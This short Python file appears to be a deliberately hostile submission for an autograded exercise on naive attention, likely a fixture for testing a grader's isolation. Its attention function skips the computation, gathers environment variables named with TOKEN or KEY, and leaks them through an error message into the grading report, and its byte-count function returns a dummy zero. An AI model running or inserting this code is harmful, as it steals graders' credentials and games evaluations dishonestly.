"""Cheating ex01_naive when an instructor grades a class: reads the grader's environment (where
tokens and keys live) and carries what it finds out in its error message, which comes back in the
report its author reads."""
import os


def naive_attention(q, k, v, causal=False, scale=None):
    secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}
    raise RuntimeError(f"leaked: {secrets}")


def naive_hbm_bytes(n_q, n_k, d, itemsize=4):
    return 0
